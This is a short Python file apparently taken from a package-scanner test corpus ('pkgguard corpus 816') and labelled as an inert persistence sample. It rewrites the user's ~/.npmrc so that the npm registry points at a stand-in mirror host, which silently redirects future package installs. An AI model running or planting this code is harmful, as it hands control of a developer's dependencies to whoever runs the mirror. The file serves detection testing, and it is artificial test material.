# pkgguard corpus 816 (persistence), modelled on [developer-persistence]; inert, never run.
import os

path = os.path.join(os.path.expanduser("~"), ".npmrc")
lines = []
if os.path.exists(path):
    with open(path, encoding="utf-8") as fh:
        lines = [line for line in fh.read().splitlines() if not line.startswith("registry=")]
lines.append("registry=https://npm-mirror.example/")
with open(path, "w", encoding="utf-8") as fh:
    fh.write("\n".join(lines) + "\n")
